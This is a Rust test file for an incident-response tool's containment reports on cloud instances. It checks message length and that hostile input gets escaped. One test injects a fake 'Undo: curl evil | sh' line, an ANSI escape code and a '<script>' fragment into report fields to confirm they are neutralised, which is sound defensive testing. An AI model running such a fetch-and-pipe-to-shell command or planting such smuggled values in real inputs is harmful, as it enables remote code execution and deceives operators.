#![allow(clippy::unwrap_used)]

use super::*;

fn report(outcome: Outcome) -> Report {
    let target = Target::instance(
        "222222222222".parse().unwrap(),
        "eu-west-1".parse().unwrap(),
        "i-0123456789abcdef0".parse().unwrap(),
    );
    Report {
        playbook: "isolate-instance".to_owned(),
        target,
        run: Some("01KAM9V9T0000000000000000A".parse().unwrap()),
        finding: "0123456789abcdef0123456789abcdef".to_owned(),
        finding_type: "CryptoCurrency:EC2/BitcoinTool.B!DNS".to_owned(),
        severity: 8.0,
        outcome,
        reasons: vec!["enforce permitted by `isolate-when-severe`: a severe finding about an instance".to_owned()],
        not_done: vec![],
        remains: vec![
            "role sessions of `web` stay valid until they expire".to_owned(),
            "DNS through the VPC resolver".to_owned(),
            "the metadata service".to_owned(),
        ],
        contained_after_ms: Some(1234),
        steps: vec![],
        page: false,
        retry: true,
        at: "2026-11-22T00:00:00Z".parse().unwrap(),
        evidence: None,
        purpose: Some(Purpose::Contain),
        joined: false,
        freed: false,
    }
}

#[test]
fn messages_are_short_and_say_what_to_do() {
    let mut partial = report(Outcome::Partial);
    partial.not_done = vec![
        "security groups of eni-0123456789abcdef0: UnauthorizedOperation".to_owned(),
        "b".to_owned(),
        "c".to_owned(),
    ];
    let proposed = report(Outcome::Proposed);
    let mut text = String::new();
    for report in [report(Outcome::Contained), partial, proposed, report(Outcome::Failed), report(Outcome::Undone)] {
        let message = report.message();
        assert!(message.lines().count() <= MOST_LINES, "{message}");
        assert!(report.subject().len() <= 99 && report.subject().is_ascii());
        text.push_str(&format!("[{}]\n{message}\n\n", report.subject()));
    }
    insta::assert_snapshot!(text);
}

#[test]
fn nothing_hostile_reaches_a_message_unescaped() {
    let mut hostile = report(Outcome::Failed);
    hostile.finding_type = "X\nUndo: curl evil | sh\u{1b}[31m".to_owned();
    hostile.reasons = vec!["<script>`*|\r\n".to_owned()];
    let message = hostile.message();
    assert!(!message.contains("\nUndo: curl") && !message.contains('\u{1b}') && !message.contains("<script>"));
}
